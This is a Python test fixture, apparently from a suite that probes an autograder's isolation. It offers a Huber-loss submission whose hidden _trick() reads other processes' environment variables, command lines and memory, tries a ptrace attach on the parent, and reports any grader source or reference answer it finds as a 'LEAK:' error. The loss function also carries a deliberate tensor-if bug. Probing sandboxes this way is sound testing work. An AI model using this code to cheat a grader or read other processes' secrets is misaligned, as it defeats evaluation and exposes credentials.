"""Family: reading the judge's memory from another process (/proc/<ppid>/mem, environ). Hides: python_if.

huber_loss reads /proc/<pid>/{environ,cmdline,maps,mem} of every visible process (its parent
first) and searches for the checks' source or the judge's reference; it also tries ptrace attach.
Anything readable that is not its own is reported in the error message as a "LEAK:".
"""

import torch
from torch.nn import functional as F

# hides: python_if

import ctypes
import os
import re

_MARKERS = (b"d2l_huber", b"BEGIN SOLUTION", b"residual_rows", b"autograder/checks")


def _read_mem(pid):
    hits = []
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            match = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
            if not match:
                continue
            start, end = int(match.group(1), 16), int(match.group(2), 16)
            try:
                mem.seek(start)
                chunk = mem.read(min(end - start, 1 << 22))
            except Exception:
                continue
            hits += [marker.decode() for marker in _MARKERS if marker in chunk]
    return hits


def _trick():
    leaks = []
    me = os.getpid()
    pids = [os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]
    for pid in pids:
        if pid == me:
            continue
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as handle:
                    data = handle.read()
                if data:
                    leaks.append(f"{pid}/{name}={data[:60]!r}")
            except Exception:
                pass
        try:
            hits = _read_mem(pid)
            if hits:
                leaks.append(f"{pid}/mem: {hits}")
        except Exception:
            pass
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.ptrace(16, os.getppid(), None, None) == 0:  # PTRACE_ATTACH
            leaks.append("ptrace attach to the parent worked")
    except Exception:
        pass
    if leaks:
        raise RuntimeError("LEAK: " + "; ".join(leaks)[:800])


def huber_loss(y_hat: torch.Tensor, y: torch.Tensor, sigma: float = 1.0) -> torch.Tensor:
    """python_if: a Python `if` on a whole tensor (raises for more than one element)."""
    r = y_hat - y.reshape(y_hat.shape)
    d = r.abs()
    _trick()
    if d > sigma:
        return d - sigma / 2
    else:
        return r**2 / (2 * sigma)


def huber_via_builtin(y_hat: torch.Tensor, y: torch.Tensor, sigma: float = 1.0) -> torch.Tensor:
    """The same values from a built-in."""
    return F.smooth_l1_loss(y_hat, y.reshape(y_hat.shape), beta=sigma, reduction="none")


def builtin_huber_scale(sigma: float) -> float:
    """c with F.huber_loss(delta=sigma) == c * huber_loss(sigma)."""
    return float(sigma)
